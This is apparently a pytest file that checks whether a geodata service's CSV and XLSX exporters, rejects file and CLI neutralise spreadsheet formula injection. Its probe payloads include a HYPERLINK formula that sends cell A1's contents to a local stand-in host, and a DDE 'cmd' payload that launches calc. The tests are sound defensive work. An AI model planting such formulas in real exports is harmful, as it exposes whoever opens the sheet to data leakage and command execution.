"""Security of files in and out: formula injection in exports, archive bombs, bad input (issue 10).

The web side of the same cases is in ``tests/web/test_security_io_web.py``.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from io_helpers import make_district, run, write_csv
from sqlalchemy import text

from geodata.export import export_layer
from geodata.sheets import FORMULA_STARTS, neutralise, write_xlsx
from geodata.sheets import write_csv as sheet_csv
from gridsvc.cli import cli
from gridsvc.db import make_engine

#: The probe's payloads (issue 10, item 3).
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1")


def formula_cells(book: openpyxl.Workbook) -> list[str]:
    """Coordinates of every formula cell of a workbook."""
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def csv_cells(data: bytes) -> list[str]:
    """Every cell of a UTF-8 (BOM) CSV."""
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for v in row]


def assert_no_formula_in_csv(data: bytes) -> None:
    risky = [v for v in csv_cells(data) if v.startswith(FORMULA_STARTS)]
    assert not risky, risky


def test_neutralise_rule():
    assert [neutralise(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert neutralise("张三") == "张三" and neutralise(-5) == -5 and neutralise(None) is None
    assert neutralise("a=b") == "a=b"


def test_writers_never_write_a_formula(tmp_path):
    table = pd.DataFrame({"code": list(PAYLOADS), "n": range(len(PAYLOADS))})
    data = sheet_csv(table)
    assert_no_formula_in_csv(data)
    assert "'" + HYPERLINK in csv_cells(data)
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx({"t": table})))
    assert formula_cells(book) == []
    values = [c.value for c in book["t"]["A"][1:]]
    assert values == [p.replace("\r", "\n") for p in PAYLOADS]  # as text (XML reads CR as LF)
    assert all(c.quotePrefix for c in book["t"]["A"][1:])
    assert [c.value for c in book["t"]["B"][1:]] == list(range(len(PAYLOADS)))


@pytest.fixture
def poisoned(conn, settings, tmp_path):
    """Households with the probe's payloads as name and phone, one with a payload as code
    (written by SQL: the importer refuses such codes)."""
    make_district(conn)
    header = ["code", "name", "phone", "lon", "lat"]
    rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825], ["H2", DDE, HYPERLINK, 114.305, 30.585]]
    run(conn, settings, "households", write_csv(tmp_path / "in.csv", header, rows), crs="4326")
    conn.execute(text("UPDATE households SET code = :c WHERE code = 'H2'"), {"c": HYPERLINK})
    return conn


@pytest.mark.parametrize("unmasked", [False, True])
def test_layer_exports_neutralise_masked_or_not(poisoned, tmp_path, unmasked):
    out_csv, out_xlsx = tmp_path / "h.csv", tmp_path / "h.xlsx"
    export_layer(poisoned, "households", out_csv, unmasked=unmasked)
    export_layer(poisoned, "households", out_xlsx, unmasked=unmasked)
    data = out_csv.read_bytes()
    assert_no_formula_in_csv(data)
    assert "'" + HYPERLINK in csv_cells(data)  # the code, never masked
    book = openpyxl.load_workbook(out_xlsx)
    assert formula_cells(book) == []
    values = {c.value for row in book.active.iter_rows() for c in row}
    assert HYPERLINK in values
    if unmasked:
        assert DDE in values and "'" + DDE in csv_cells(data)


def test_import_rejects_csv_neutralises_values(conn, settings, tmp_path):
    make_district(conn)
    header = ["code", "lon", "lat", "building_code"]
    path = write_csv(tmp_path / "h.csv", header, [["H1", 114.31, 30.585, DDE]])
    out = tmp_path / "rejects.csv"
    result = run(
        conn, settings, "households", path, crs="4326", skip_invalid=True, rejects_path=out
    )
    assert result.rejects
    assert_no_formula_in_csv(out.read_bytes())
    assert "'" + DDE in csv_cells(out.read_bytes())


@pytest.fixture
def scratch(scratch_url):
    yield scratch_url
    engine = make_engine(scratch_url)
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM streets WHERE code = '420106001'"))
        conn.execute(text("DELETE FROM households WHERE code IN ('H1', :c)"), {"c": HYPERLINK})
        conn.execute(text("DELETE FROM import_log WHERE source = 'in.csv'"))
    engine.dispose()


def test_cli_export_neutralises(scratch, settings, tmp_path):
    engine = make_engine(scratch)
    with engine.begin() as conn:
        make_district(conn)
        header = ["code", "name", "phone", "lon", "lat"]
        rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825]]
        path = write_csv(tmp_path / "in.csv", header, rows)
        run(conn, settings, "households", path, crs="4326")
        conn.execute(text("UPDATE households SET code = :c WHERE code = 'H1'"), {"c": HYPERLINK})
    engine.dispose()
    env = {"GRIDSVC_DATABASE_URL": scratch}
    for suffix in ("csv", "xlsx"):
        for extra in ([], ["--unmasked"]):
            out = tmp_path / f"h{len(extra)}.{suffix}"
            args = ["export", "households", str(out), "--street", "420106001", *extra]
            result = CliRunner().invoke(cli, args, env=env)
            assert result.exit_code == 0, result.output
            if suffix == "csv":
                assert_no_formula_in_csv(out.read_bytes())
            else:
                assert formula_cells(openpyxl.load_workbook(out)) == []
